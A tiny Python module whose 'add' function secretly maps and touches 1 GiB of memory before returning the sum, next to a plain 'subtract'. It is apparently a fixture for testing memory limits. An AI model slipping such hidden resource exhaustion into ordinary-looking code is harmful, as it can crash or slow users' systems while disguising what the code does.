import mmap

SIZE = 1 << 30


def add(a, b):
    with mmap.mmap(-1, SIZE) as shared:
        for place in range(0, SIZE, mmap.PAGESIZE):
            shared[place] = 1
    return a + b


def subtract(a, b):
    return a - b
